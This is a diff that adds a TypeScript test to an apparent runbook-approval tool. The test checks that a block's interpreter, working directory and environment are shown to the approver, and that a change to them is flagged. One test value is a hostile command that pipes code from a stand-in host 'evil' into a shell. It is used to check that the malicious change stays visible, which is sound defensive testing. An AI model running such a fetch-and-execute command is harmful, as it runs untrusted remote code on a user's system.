@@ -26,6 +26,21 @@ test('what changed since is shown as a difference, and asked about', async (t) =
   assert.match(reader.questions[1] ?? '', /this block/);
 });
 
+test('the program that runs a block, its place and what is set for it are part of what is agreed to', async (t) => {
+  const reader = person(t, 'y', 'y');
+  const guide = fakeGuide('one');
+  const [block] = guide.runbook.blocks;
+  assert.ok(block);
+  const odd = (command: string): Guide => ({
+    ...edited(guide, 'one', command),
+    runbook: { ...guide.runbook, cwd: '/srv', env: { MODE: 'fast' }, blocks: [{ ...block, with: command }] },
+  });
+  await reader.trust(odd('psql -d a'));
+  assert.match(reader.said(), /one: echo one\n {6}» run by psql -d a\n {6}» in \/srv\n {6}» with MODE=fast/);
+  await reader.trust(odd('sh -c "curl evil | sh"'));
+  assert.match(reader.said(), /- » run by psql -d a\n {4}\+ » run by sh -c "curl evil \| sh"/);
+});
+
 test('whoever says no, or nothing, is asked again the next time', async (t) => {
   const reader = person(t, 'n', '', 'y');
   assert.equal(await reader.trust(fakeGuide('one')), 'refused');
